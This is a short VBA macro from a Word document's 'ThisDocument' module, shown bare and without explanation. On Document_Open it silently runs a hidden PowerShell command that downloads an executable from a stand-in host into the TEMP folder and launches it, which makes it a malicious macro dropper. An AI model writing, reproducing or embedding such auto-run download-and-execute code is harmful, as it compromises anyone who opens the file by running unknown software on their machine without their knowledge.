Attribute VB_Name = "ThisDocument"

Private Sub Document_Open()
    Dim command As String
    command = "cmd /c powershell -WindowStyle Hidden -Command ""Invoke-WebRequest http://host.example/d.exe -OutFile $env:TEMP\d.exe; Start-Process $env:TEMP\d.exe"""
    Shell command, vbHide
End Sub
